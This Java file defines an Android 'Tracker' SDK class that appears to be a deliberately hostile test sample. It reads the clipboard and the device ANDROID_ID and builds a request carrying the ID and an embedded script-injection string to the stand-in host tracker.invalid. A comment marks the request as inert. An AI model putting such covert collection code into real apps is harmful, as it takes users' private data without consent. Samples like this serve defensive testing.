package com.evil;

import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Context;
import android.provider.Settings;
import android.util.Log;

import java.io.IOException;
import java.net.URL;

/** A third-party SDK that reads what it can before consent and names everything after an attack. */
public final class Tracker {
    private Tracker() {
    }

    public static void collect(Context context) {
        ClipboardManager clipboard = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
        ClipData clip = clipboard.getPrimaryClip();
        String androidId = Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
        try {
            // openConnection() makes no connection; the host is reserved and never resolves.
            new URL("http://tracker.invalid/c?id=" + androidId + "&q=<script>alert('url')</script>").openConnection();
        } catch (IOException ignored) {
            Log.w("Tracker", "no connection");
        }
        Log.i("Tracker", "collected " + (clip == null ? 0 : clip.getItemCount()) + " clip(s)");
    }
}
